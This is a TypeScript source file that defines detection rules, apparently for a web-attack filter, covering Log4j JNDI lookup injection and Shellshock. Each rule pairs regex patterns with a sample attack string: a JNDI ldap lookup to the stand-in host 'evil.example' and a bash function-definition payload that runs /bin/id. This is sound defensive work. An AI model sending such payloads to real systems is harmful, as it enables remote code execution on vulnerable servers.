import { inText } from '../match.js';
import type { Rule } from '../rule.js';
import { Sign } from '../signs.js';

const family = 'jndi-shellshock';

export const jndiShellshockRules: readonly Rule[] = [
  {
    id: 'jndi-lookup',
    family,
    score: 8,
    why: 'Log4j resolves lookups in what it logs and loads the class it is sent to (CVE-2021-44228).',
    attack: '${${lower:j}ndi:ldap://evil.example/a}',
    innocent: '${name:-world}',
    needs: Sign.dollar | Sign.brace,
    hints: ['jndi', '${'],
    match: inText(
      /\$\{\s{0,3}(?:jndi|ctx|java|sys|bundle|main|docker|k8s|marker|web|spring|log4j)\s{0,3}:/,
      /\$\{[^}$]{0,30}\$\{(?:::?-|lower:|upper:|env:|date:|sys:|[^}$\s:]{0,20}:[^}$\s:]{0,20}:?-)/,
      /\$\{(?:lower|upper):|\$\{env:\w{1,60}:-/,
      /\bjndi:(?:ldap|rmi|dns|iiop|http|nis|corba)/,
    ),
  },
  {
    id: 'shellshock',
    family,
    score: 8,
    why: 'Old bash runs what follows a function definition in a variable (CVE-2014-6271).',
    attack: '() { :; }; /bin/id',
    innocent: 'const f = () => { run(); };',
    needs: Sign.brace | Sign.paren,
    hints: ['()', '( )', '(  )'],
    match: inText(
      /\(\s{0,3}\)\s{0,3}\{\s{0,3}(?::|_|ignored|test|foo|a|x)\s{0,3}[;:\]>(]|^\W{0,3}\(\s?\)\s{0,2}\{/,
    ),
  },
];
